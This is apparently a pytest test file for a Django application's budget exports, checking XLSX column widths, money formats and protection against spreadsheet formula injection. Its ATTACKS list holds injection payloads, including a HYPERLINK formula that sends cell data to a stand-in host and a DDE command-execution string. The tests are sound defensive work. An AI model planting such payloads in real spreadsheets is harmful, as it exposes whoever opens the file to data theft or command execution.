"""Every spreadsheet export: XLSX columns sized to their content, amounts formatted, and
formula-looking text never a formula (OWASP CSV injection), in XLSX and in CSV.

LibreOffice is not installed on this machine, so the XLSX is checked by rereading it with
openpyxl: widths, number formats, and that no cell is a formula.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from secretariat.budget.models import Article
from secretariat.core import spreadsheets
from tests.factories.accounts import logged_in as client_of
from tests.factories.budget import a_budget, finance
from tests.factories.registry import registry_with_delegations

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(scope="module", autouse=True)
def registry(django_db_setup: Any, django_db_blocker: Any) -> Iterator[None]:
    with registry_with_delegations(django_db_blocker):
        yield


def _budget_with_names(names: list[str]) -> int:
    budget = a_budget()
    for code, name in zip(["1", "2", "3"], names, strict=False):
        Article.objects.filter(budget=budget, code=code).update(name_en=name)
    return budget.pk


def test_the_budget_xlsx_has_widths_money_formats_and_no_formula() -> None:
    pk = _budget_with_names([ATTACKS[0], "Командировки и представительские расходы", "专家研究"])

    response = client_of(finance()).get(f"/budget/{pk}/execution.xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    names = [c.value for c in sheet["B"][1:]]
    assert ATTACKS[0] in names  # the exact name, as text
    for column in "ABCDEFGHIJ":
        assert sheet.column_dimensions[column].width >= 6, column
    amount = sheet["C2"]
    assert isinstance(amount.value, int | float)
    assert amount.number_format == "#,##0.00"
    # "600,000.00" needs 10 characters; the long Russian name widens its column.
    assert sheet.column_dimensions["C"].width >= len("600,000.00")
    assert sheet.column_dimensions["B"].width >= len("Командировки и представительские расходы")


def test_the_budget_csv_prefixes_formula_looking_names() -> None:
    pk = _budget_with_names(ATTACKS[:3])

    response = client_of(finance()).get(f"/budget/{pk}/execution.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r[0]: r[1] for r in rows[1:]}
    assert names["1"] == "'" + ATTACKS[0]
    assert names["2"] == "'" + ATTACKS[1]
    assert names["3"] == "'" + ATTACKS[2]
    remaining = {r[0]: r[6] for r in rows[1:]}
    assert remaining["Total"] == "750000.00"  # numbers stay numbers


@pytest.mark.parametrize("text", ATTACKS)
def test_the_helper_neutralises_every_formula_start(text: str) -> None:
    rows = list(csv.reader(io.StringIO(spreadsheets.csv_string(["h"], [[text, Decimal("-5")]]))))
    assert rows[1] == ["'" + text, "-5"]

    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.as_xlsx("t", ["h"], [[text]])))
    sheet = book.active
    assert sheet is not None
    assert sheet["A2"].value == text
    assert sheet["A2"].data_type == "s"


def test_chinese_text_counts_double_in_the_width() -> None:
    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.as_xlsx("t", ["h"], [["专家研究报告"]])))
    sheet = book.active
    assert sheet is not None
    assert sheet.column_dimensions["A"].width >= 12
